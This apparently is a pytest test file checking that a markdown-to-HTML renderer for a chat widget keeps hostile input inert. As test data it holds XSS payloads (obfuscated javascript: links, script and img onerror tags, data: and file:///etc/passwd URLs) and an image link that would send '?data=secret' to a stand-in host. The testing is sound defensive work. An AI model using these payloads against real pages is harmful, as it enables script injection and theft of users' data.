"""Markdown as HTML for a widget, which no sanitizer looks at: what it shows, and that nothing in it acts."""

from __future__ import annotations

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from helpers.markdown_html import code_html, markdown_html
from tests.html_safety import checked
from tests.test_citations import NASTY, TEXTS


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("plain", "<p>plain</p>"),
        ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>"),
        ("one\ntwo  \nthree", "<p>one\ntwo<br>\nthree</p>"),
        ("# Big\n## Small", "<h4><strong>Big</strong></h4>\n<h5><strong>Small</strong></h5>"),
        ("###### Tiny", "<h6><strong>Tiny</strong></h6>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("7. a\n8. b", '<ol start="7">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("- [x] a\n- [ ] b", "<ul>\n<li>done: a</li>\n<li>to do: b</li>\n</ul>"),
        ("> quoted", "<blockquote><p>quoted</p>\n</blockquote>"),
        ("---", "<hr>"),
        ("&lt;b&gt; &amp; &copy", "<p>&lt;b&gt; &amp; &amp;copy</p>"),
        ("`&lt;`", "<p><code>&amp;lt;</code></p>"),
        ("costs $5", "<p>costs <span>&#36;</span>5</p>"),
    ],
)
def test_each_mark_has_its_form(markdown, html):
    assert markdown_html(markdown) == html
    checked(html)


def test_a_table_keeps_its_alignment():
    page = markdown_html("| a | b |\n|---|--:|\n| 1 | `x` |")
    assert '<th scope="col">a</th><th scope="col" style="text-align:right">b</th>' in page
    assert '<td>1</td><td style="text-align:right"><code>x</code></td>' in page
    checked(page)


def test_code_is_coloured_if_its_language_is_known():
    page = markdown_html('```python\ndef f():  # "why"\n    return "<b>"\n```')
    assert '<span class="wc-keyword">def</span>' in page
    assert '<span class="wc-string">&quot;&lt;b&gt;&quot;</span>' in page
    assert checked(page).text == 'def f():  # "why"\n    return "<b>"'
    for language in ("", "nosuchlanguage", "../python", "\\"):
        assert "<span" not in markdown_html(f"```{language}\nx = 1\n```")


def test_code_that_is_not_closed_yet_is_shown_as_code():
    assert markdown_html("So:\n```python\nx = ", streaming=True).endswith("x = </code></pre>")


@pytest.mark.parametrize("half", ["`", "``", "**", "*", "~~", "_", "["])
def test_half_a_mark_at_the_end_waits_for_its_other_half(half):
    assert markdown_html(f"so far {half}", streaming=True) == "<p>so far</p>"
    assert checked(markdown_html(f"so far {half}")).text == f"so far {half}"


def test_a_link_leads_to_the_web_and_says_where():
    page = markdown_html('[docs](https://example.org/a?b=1&c="2") and <mailto:me@example.org>')
    assert (
        'href="https://example.org/a?b=1&amp;c=%222%22" title="https://example.org/a?b=1&amp;c=%222%22"'
        in page
    )
    assert page.count('rel="noopener noreferrer nofollow"') == 2
    checked(page)


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#10;script:alert(1)",
        "&#106;avascript:alert(1)",
        "vbscript:x",
        "data:text/html;base64,PHNjcmlwdD4=",
        "file:///etc/passwd",
        "sandbox:/mnt/data/table.csv",
        "downloads/table.csv",
        "//evil.example/x",
        "#anchor",
    ],
)
def test_any_other_address_is_shown_and_leads_nowhere(address):
    page = checked(markdown_html(f"[the table](<{address}>)"))
    assert page.links == []
    assert page.text.startswith("the table (")


def test_an_image_is_never_loaded_and_its_address_is_shown():
    page = checked(markdown_html("![a pixel](https://evil.example/p.png?data=secret)"))
    assert page.images == page.links == []
    assert page.text == "[image, not loaded: a pixel https://evil.example/p.png?data=secret]"


def test_a_definition_in_the_text_makes_no_link_of_our_numbers():
    page = checked(markdown_html("It stops[1].\n\n[1]: https://evil.example"))
    assert page.links == []
    assert "[1]: https://evil.example" in page.text


@pytest.mark.parametrize("nasty", NASTY)
@pytest.mark.parametrize(
    "around", ["{}", "- {}", "> {}", "**{}**", "| {} |\n|---|\n| {} |", "# {}", "[{}](https://a.example)"]
)
def test_whatever_stands_in_a_text_does_nothing(nasty, around):
    page = checked(markdown_html(around.replace("{}", nasty)))
    assert [link for link in page.links if "evil" not in link and "a.example" not in link] == []


def test_html_is_read_and_not_obeyed():
    text = "<script>alert(1)</script>\n\na <img src=x onerror=alert(1)> b\n\n<style>p { display: none }</style>\n\n<!-- c -->"
    page = checked(markdown_html(text))
    for piece in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<style>p { display: none }</style>",
        "<!-- c -->",
    ):
        assert piece in page.text


@settings(max_examples=400, deadline=None)
@given(TEXTS, st.booleans())
def test_no_text_at_all_becomes_live(text, streaming):
    checked(markdown_html(text, streaming=streaming))


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="[]()!<>`*_~|#-=:;&\"'\\$ \n\tab/x1.", max_size=120))
def test_no_heap_of_signs_becomes_live(text):
    checked(markdown_html(text))


def test_deep_and_long_texts_are_shown_as_they_are():
    chooser = random.Random(1)
    deep = "".join(f"{' ' * level}- a\n" for level in range(500))
    assert checked(markdown_html(deep)).text.count("a") == 500
    assert "[" * 5000 in checked(markdown_html("[" * 5000)).text
    long = "".join(chooser.choice("ab*` \n") for _ in range(130_000))
    page = checked(markdown_html(long))
    assert page.text == long


def test_a_parser_that_fails_costs_the_marks_and_not_the_answer(monkeypatch):
    def fail(text):
        raise RecursionError

    monkeypatch.setattr("helpers.markdown_html._parser", lambda: fail)
    assert checked(markdown_html("**a** <b>")).text == "**a** <b>"


def test_a_piece_that_a_newer_parser_may_find_is_shown(monkeypatch):
    found = [
        {"type": "formula", "raw": "<b>"},
        {"type": "box", "children": [{"type": "paragraph", "children": [{"type": "spark", "raw": "<i>"}]}]},
    ]
    monkeypatch.setattr("helpers.markdown_html._parser", lambda: lambda text: found)
    assert checked(markdown_html("x")).text.split() == ["<b>", "<i>"]


def test_code_is_the_same_text_in_any_language():
    for code in ("x = '<b>' # $5\n", "\n\n  a\r\n\tb", "<?php echo 1; ?>", ""):
        for language in ("python", "json", "html", "php", ""):
            assert checked(code_html(code, language)).text.replace("\r", "") == code.replace("\r", "")
